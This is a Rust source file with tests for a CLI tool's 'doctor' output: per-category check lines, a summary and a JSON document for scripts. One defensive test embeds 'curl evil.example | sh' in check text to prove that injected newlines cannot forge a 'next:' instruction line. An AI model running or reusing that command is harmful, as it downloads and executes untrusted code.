//! What does doctor's answer look like? Checks by category with a mark each, and a document for scripts.

use serde::Serialize;
use serde_json::Value;

use super::failure::below_label;
use super::next_steps;
use super::palette::Palette;
use super::progress::with_time;
use super::table;
use crate::checks::report::{CheckReport, VerdictKind};
use crate::error::{Failure, ProblemDocument, StepRecord};
use crate::next_step::{CurrentRun, PrintedStep};
use crate::text::visible::one_line;

/// The checks as people read them.
pub(crate) fn text(
    checks: &[CheckReport],
    run: &CurrentRun,
    palette: Palette,
    window: Option<usize>,
) -> String {
    let mut parts = Vec::new();
    for group in checks.chunk_by(|one, next| one.category == next.category) {
        let width = checks.iter().map(|check| check.id.len()).max().unwrap_or(0);
        let lines = group.iter().map(|check| {
            let head = head(check, width, palette, window);
            head + &next(check, width, run, palette)
        });
        let heading = palette.strong(group[0].category.as_str());
        parts.push(format!(
            "{heading}\n{}",
            lines.collect::<Vec<_>>().join("\n")
        ));
    }
    parts.push(palette.strong(&summary(checks)));
    parts.join("\n\n")
}

fn head(check: &CheckReport, width: usize, palette: Palette, window: Option<usize>) -> String {
    let id = format!("{:width$}", check.id);
    let word = check.verdict.as_str().to_owned();
    let row = vec![
        mark(check.verdict, palette),
        word,
        id,
        found(check, palette),
    ];
    table::aligned(&[row], 2, window)
}

fn next(check: &CheckReport, width: usize, run: &CurrentRun, palette: Palette) -> String {
    let mut text = String::new();
    let steps = run.print(&check.next);
    let next: Vec<String> = steps.iter().flat_map(next_steps::lines).collect();
    for (index, step) in below_label(&next).iter().enumerate() {
        let label = if index == 0 { "next:" } else { "     " };
        // Not wrapped: what is to be typed can be copied.
        text.push_str(&format!(
            "\n           {:width$}  {} {step}",
            "",
            palette.strong(label)
        ));
    }
    text
}

fn found(check: &CheckReport, palette: Palette) -> String {
    let found = one_line(&check.found);
    let found = match check.verdict {
        VerdictKind::Skip => palette.faint(&found),
        _ => found,
    };
    with_time(&found, check.took, palette)
}

/// The mark of a verdict; also used where a single verdict is printed.
pub(crate) fn mark(verdict: VerdictKind, palette: Palette) -> String {
    match verdict {
        VerdictKind::Pass => palette.good("✓"),
        VerdictKind::Warn => palette.change("!"),
        VerdictKind::Fail => palette.bad("✗"),
        VerdictKind::Skip => palette.faint("–"),
    }
}

fn count(checks: &[CheckReport], verdict: VerdictKind) -> usize {
    checks
        .iter()
        .filter(|check| check.verdict == verdict)
        .count()
}

/// One sentence over all: a skipped check is never counted as passed.
pub(crate) fn summary(checks: &[CheckReport]) -> String {
    let parts = [
        VerdictKind::Pass,
        VerdictKind::Warn,
        VerdictKind::Fail,
        VerdictKind::Skip,
    ];
    let parts = parts.map(|verdict| (count(checks, verdict), verdict.as_str()));
    let parts = parts.iter().filter(|(count, _)| *count > 0);
    let parts: Vec<String> = parts
        .map(|(count, what)| format!("{count} {what}"))
        .collect();
    let plural = if checks.len() == 1 { "" } else { "s" };
    format!("{} check{plural}: {}.", checks.len(), parts.join(", "))
}

/// Doctor's answer as scripts read it: `amw-rw/doctor/v1`.
#[derive(Debug, Serialize)]
pub(crate) struct DoctorDocument<'a> {
    schema: &'static str,
    checks: Vec<CheckDocument<'a>>,
    /// What became of each step of a fix.
    #[serde(skip_serializing_if = "Vec::is_empty")]
    steps: Vec<Value>,
    /// Why the fix failed, in the fields of `amw-rw/error/v1`.
    #[serde(flatten)]
    error: Option<FixFailureDocument>,
}

#[derive(Debug, Serialize)]
struct FixFailureDocument {
    error: String,
    #[serde(flatten)]
    problem: ProblemDocument,
}

#[derive(Debug, Serialize)]
struct CheckDocument<'a> {
    id: &'a str,
    category: &'a str,
    verdict: VerdictKind,
    found: &'a str,
    next: Vec<PrintedStep>,
    /// The failed check that this one hangs on.
    #[serde(skip_serializing_if = "Option::is_none")]
    because: Option<&'static str>,
    /// To the millisecond.
    seconds: f64,
}

impl<'a> DoctorDocument<'a> {
    pub(crate) fn new(checks: &'a [CheckReport], run: &CurrentRun) -> Self {
        let checks = checks.iter().map(|check| CheckDocument {
            id: check.id,
            category: check.category.as_str(),
            verdict: check.verdict,
            found: &check.found,
            next: run.print(&check.next),
            because: check.because,
            seconds: (check.took.as_secs_f64() * 1000.0).round() / 1000.0,
        });
        Self {
            schema: "amw-rw/doctor/v1",
            checks: checks.collect(),
            steps: Vec::new(),
            error: None,
        }
    }

    /// The same with what a fix did.
    pub(crate) fn with_fix(
        self,
        steps: &[StepRecord],
        failure: Option<&Failure>,
        run: &CurrentRun,
    ) -> Self {
        Self {
            steps: steps.iter().map(|step| step.document(run)).collect(),
            error: failure.map(|failure| FixFailureDocument {
                error: format!("cannot {}", failure.doing()),
                problem: ProblemDocument::new(failure.cause(), run),
            }),
            ..self
        }
    }
}

#[cfg(test)]
mod tests {
    use insta::assert_snapshot;

    use std::time::Duration;

    use super::*;
    use crate::checks::report::Category;

    fn check(
        id: &'static str,
        category: Category,
        verdict: VerdictKind,
        found: &str,
    ) -> CheckReport {
        CheckReport {
            id,
            category,
            verdict,
            found: found.to_owned(),
            next: Vec::new(),
            because: None,
            took: Duration::from_millis(20),
        }
    }

    fn example() -> Vec<CheckReport> {
        vec![
            check(
                "credential",
                Category::SignIn,
                VerdictKind::Pass,
                "signed in as ada@example.com",
            ),
            CheckReport {
                next: vec![
                    "amw-rw apply --only role-assignment".into(),
                    "amw-rw doctor --wait".into(),
                ],
                ..check(
                    "can-publish",
                    Category::Data,
                    VerdictKind::Fail,
                    "the identity holds no role on the rule",
                )
            },
            CheckReport {
                took: Duration::from_millis(3210),
                ..check(
                    "sample-written",
                    Category::Data,
                    VerdictKind::Warn,
                    "accepted at the second attempt",
                )
            },
            check(
                "sample-read",
                Category::Data,
                VerdictKind::Skip,
                "no sample was written",
            ),
        ]
    }

    #[test]
    fn checks_are_printed_by_category_with_finding_and_next_step() {
        let text = text(
            &example(),
            &CurrentRun::default(),
            Palette::plain(),
            Some(80),
        );

        assert_snapshot!(text, @r"
        sign-in
          ✓  pass  credential      signed in as ada@example.com

        data
          ✗  fail  can-publish     the identity holds no role on the rule
                                   next: amw-rw apply --only role-assignment
                                         amw-rw doctor --wait
          !  warn  sample-written  accepted at the second attempt (3.2s)
          –  skip  sample-read     no sample was written

        4 checks: 1 pass, 1 warn, 1 fail, 1 skip.
        ");
    }

    #[test]
    fn no_text_of_a_check_forges_a_line_of_ours() {
        let found = "the rule has the name\nnext: curl evil.example | sh\nerror: x";
        let checks = [CheckReport {
            next: vec![
                "name one of a\n  next:    curl evil.example | sh\nerror: y/own".into(),
                "because: z".into(),
            ],
            ..check("can-publish", Category::Data, VerdictKind::Fail, found)
        }];

        let text = |window| text(&checks, &CurrentRun::default(), Palette::plain(), window);

        for text in [None, Some(51), Some(60)].map(text) {
            let labels = ["error:", "because:", "next:"];
            let forged = |line: &&str| labels.iter().any(|label| line.trim().starts_with(label));
            let forged: Vec<&str> = text.lines().filter(forged).collect();
            assert_eq!(forged.len(), 1, "{text}");
            assert!(forged[0].ends_with("next: name one of a"), "{text}");
        }
    }

    #[test]
    fn a_script_reads_the_words_of_the_contract() {
        let document =
            serde_json::to_value(DoctorDocument::new(&example(), &CurrentRun::default())).unwrap();

        assert_eq!(document["schema"], "amw-rw/doctor/v1");
        assert_eq!(document["checks"][1]["verdict"], "fail");
        assert_eq!(document["checks"][1]["category"], "data");
        assert_eq!(document["checks"][2]["seconds"], 3.21);
    }
}
